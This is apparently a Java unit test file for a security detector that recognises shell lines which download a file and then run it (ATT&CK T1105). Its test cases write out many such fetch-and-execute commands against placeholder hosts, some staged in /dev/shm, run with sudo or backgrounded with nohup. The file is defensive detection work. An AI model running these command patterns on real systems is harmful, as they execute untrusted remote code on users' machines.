package dev.vigil.analyze.reading;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.analyze.reading.Behaviours.Family;
import org.junit.jupiter.api.Test;

/** Download and execute with a file between the steps (ATT&CK T1105; own examples). */
class FetchedRunTest {
    private static boolean shows(String line) {
        return Behaviours.shows(Family.FETCH_THEN_RUN, line, false);
    }

    @Test
    void eachWayADownloadToolNamesItsFileIsRead() {
        assertThat(shows("curl -sO https://get.example.org/setup.sh && sh setup.sh")).isTrue();
        assertThat(shows("curl -sSLo /tmp/a https://x.example.net/a; bash /tmp/a")).isTrue();
        assertThat(shows("curl -o/tmp/b https://x.example.net/b; sh /tmp/b")).isTrue();
        assertThat(shows("curl --output=c.py https://x.example.net/c && python3 c.py")).isTrue();
        assertThat(shows("curl https://x.example.net/d > d.pl; perl d.pl")).isTrue();
        assertThat(shows("wget http://192.0.2.7/e.sh && bash e.sh")).isTrue();
        assertThat(shows("wget -qO f http://192.0.2.7/x && ./f")).isTrue();
        assertThat(shows("wget --output-document=/var/tmp/g http://192.0.2.7/x; /var/tmp/g")).isTrue();
        assertThat(shows("wget 'http://192.0.2.7/h.php?v=2' ; php h.php")).isTrue();
        assertThat(shows("lwp-download http://192.0.2.7/i /tmp/i; sh /tmp/i")).isTrue();
        assertThat(shows("aria2c -o j.js http://192.0.2.7/j && node j.js")).isTrue();
        assertThat(shows("wget 192.0.2.7/k.sh; sh k.sh")).isTrue(); // no scheme: wget assumes http
        assertThat(shows("curl -O dl.example.net/tools/l.py && python3 l.py")).isTrue();
    }

    @Test
    void eachWayOfRunningTheFileIsRead() {
        assertThat(shows("cd /dev/shm && wget http://192.0.2.7/k && cd / && /dev/shm/k")).isTrue();
        assertThat(shows("wget http://192.0.2.7/l.sh; sudo bash -x l.sh")).isTrue();
        assertThat(shows("wget http://192.0.2.7/m.sh; . ./m.sh")).isTrue();
        assertThat(shows("wget http://192.0.2.7/n.jar && java -Xmx64m -jar n.jar")).isTrue();
        assertThat(shows("wget http://192.0.2.7/o.php && php -f o.php")).isTrue();
        assertThat(shows("wget http://192.0.2.7/p.py && nohup python3.11 -u p.py &")).isTrue();
    }

    @Test
    void aFileOnlyFetchedOrOnlyRunOrAnotherOneIsNot() {
        assertThat(shows("curl -sO https://get.example.org/setup.sh && less setup.sh")).isFalse();
        assertThat(shows("curl -o data.json https://api.example.org/x && python3 report.py data.json")).isFalse();
        assertThat(shows("wget https://example.org/r.tar.gz && tar xzf r.tar.gz")).isFalse();
        assertThat(shows("bash build.sh && curl -O https://example.org/build.sh")).isFalse();
        assertThat(shows("curl -s https://example.org/q.py && python3 q.py")).isFalse(); // printed, not written
        assertThat(shows("wget -O - https://example.org/s.sh > /dev/null; sh s.sh")).isFalse();
        assertThat(shows("wget https://example.org/t.py && python3 -c 'import t' && python3 -m t")).isFalse();
        assertThat(shows("curl -o u.sh https://example.org/u.sh && bash -c 'echo done'")).isFalse();
        assertThat(shows("curl -H 'X-Token: v.sh' https://example.org/api && sh v.sh")).isFalse();
        assertThat(shows("wget -i list.txt && sh list.txt")).isFalse(); // the list is read, not written
    }

    @Test
    void longWordsAreScannedNotBacktracked() {
        String host = "a.".repeat(4000) + "example";
        assertThat(shows("wget " + host + "/x.sh; sh x.sh")).isTrue();
        assertThat(shows("wget " + "1.".repeat(4000) + "/y.sh; sh y.sh")).isFalse();
    }

    @Test
    void urlNamesDropQueryAndFragment() {
        assertThat(FetchedRun.urlName("https://x.example/a/b.sh?x=1#f")).isEqualTo("b.sh");
        assertThat(FetchedRun.urlName("https://x.example/")).isEmpty();
        assertThat(FetchedRun.urlName("https://x.example")).isEmpty();
    }
}
